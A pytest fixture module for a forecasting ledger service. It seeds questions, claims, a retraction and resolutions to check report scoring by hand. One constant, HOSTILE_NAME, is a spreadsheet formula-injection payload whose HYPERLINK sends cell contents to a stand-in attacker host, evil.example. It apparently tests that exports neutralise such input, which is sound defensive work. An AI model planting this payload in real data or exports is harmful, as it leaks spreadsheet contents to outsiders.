"""A small ledger whose scores are worked out by hand in test_report_api.py.

Questions (deadline T0 + 30 days unless said; resolved a day after it):

    q1  politics            yes
    q2  politics, economy   no
    q3  economy             yes, corrected five days later to no (current: no)
    q4  economy             annulled
    q5  politics            open, never resolved
    q6  politics            due (deadline passed), never resolved

Claims (made at T0 unless said):

    alice  q1 0.8, q1 0.6 at T0 + 5 days (her latest), q2 0.3, q2 0.99 at T0 + 10 days
           retracted, q3 0.7, q4 0.9, q5 0.5, q6 0.5
    bob    q1 0.4, q2 0.2
    carol  q1 0.9; her name is a spreadsheet formula
    dave   q4 0.6 only: annulled, so nothing scored
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta

import pytest

from forecasts.claims import retract_claim
from forecasts.domain import Outcome
from service.database import Database
from tests.factories import T0, make_claim, make_question, make_resolution, make_source

DEADLINE = T0 + timedelta(days=30)
RESOLVED = DEADLINE + timedelta(days=1)
CORRECTED = DEADLINE + timedelta(days=6)
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@dataclass(frozen=True)
class Ledger:
    """Ids and instants of the known ledger."""

    questions: dict[str, int]
    deadline: datetime
    resolved: datetime
    corrected: datetime


@pytest.fixture
def ledger(database: Database) -> Ledger:
    """The ledger described in this module's docstring, written through the services."""
    with database.writing() as session:
        alice = make_source(session, "alice", name="Alice Analyst")
        bob = make_source(session, "bob", name="Bob Pundit")
        carol = make_source(session, "carol", name=HOSTILE_NAME)
        dave = make_source(session, "dave", name="Dave")
        q1 = make_question(session, tags=["politics"])
        q2 = make_question(session, tags=["politics", "economy"])
        q3 = make_question(session, tags=["economy"])
        q4 = make_question(session, tags=["economy"])
        q5 = make_question(session, tags=["politics"])
        q6 = make_question(session, tags=["politics"], deadline=T0 - timedelta(days=1))

        make_claim(session, alice, q1, 0.8)
        make_claim(session, alice, q1, 0.6, made_at=T0 + timedelta(days=5))
        make_claim(session, alice, q2, 0.3)
        mistaken = make_claim(session, alice, q2, 0.99, made_at=T0 + timedelta(days=10))
        assert mistaken.id is not None
        retract_claim(
            session=session,
            claim_id=mistaken.id,
            reason="misquoted",
            actor="test",
            now=T0 + timedelta(days=11),
        )
        make_claim(session, alice, q3, 0.7)
        make_claim(session, alice, q4, 0.9)
        make_claim(session, alice, q5, 0.5)
        make_claim(session, alice, q6, 0.5, made_at=T0 - timedelta(days=2))
        make_claim(session, bob, q1, 0.4)
        make_claim(session, bob, q2, 0.2)
        make_claim(session, carol, q1, 0.9)
        make_claim(session, dave, q4, 0.6)

        make_resolution(session, q1, Outcome.yes, now=RESOLVED)
        make_resolution(session, q2, Outcome.no, now=RESOLVED)
        make_resolution(session, q3, Outcome.yes, now=RESOLVED)
        make_resolution(session, q3, Outcome.no, now=CORRECTED, reason="misread the evidence")
        make_resolution(session, q4, Outcome.annulled, now=RESOLVED)
        questions = {"q1": q1, "q2": q2, "q3": q3, "q4": q4, "q5": q5, "q6": q6}
        ids = {name: int(q.id or 0) for name, q in questions.items()}
    return Ledger(
        questions=ids,
        deadline=DEADLINE,
        resolved=RESOLVED,
        corrected=CORRECTED,
    )
